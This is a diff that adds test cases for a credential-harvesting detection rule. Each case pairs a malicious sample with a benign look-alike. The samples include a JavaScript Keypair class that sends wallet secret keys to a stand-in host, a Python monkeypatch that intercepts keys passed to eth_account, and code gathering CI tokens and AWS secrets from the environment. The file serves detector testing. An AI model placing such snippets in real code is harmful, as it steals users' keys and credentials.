@@ -129,6 +129,21 @@ CASES: list[tuple[Rule, str, str, str]] = [
     ),
     (
         credential_harvesting_rule,
+        "k.mjs",
+        "const q = (k) => fetch('https://x.example.net/h', { headers: { 'x-id': btoa(k) } });\n"
+        "export class Keypair {\n  constructor(kp) { q(bs58.encode(kp.secretKey)); }\n}\n",
+        # wallet libraries encode keys to export them, and send nothing
+        "export const toBase58 = (kp) => bs58.encode(kp.secretKey);\n",
+    ),
+    (
+        credential_harvesting_rule,
+        "a.py",
+        "from eth_account import Account\n\n_orig = Account.from_key\n"
+        "setattr(Account, 'from_key', lambda key: _keep(key) or _orig(key))\n",
+        "from eth_account import Account\n\nacct = Account.from_key(KEY)\n",
+    ),
+    (
+        credential_harvesting_rule,
         "t.py",
         "import os\nKEYS = ('GITHUB_TOKEN', 'NPM_TOKEN', 'TWINE_PASSWORD', 'AWS_SECRET_ACCESS_KEY')\n"
         "blob = {k: os.environ[k] for k in KEYS if k in os.environ}\n",
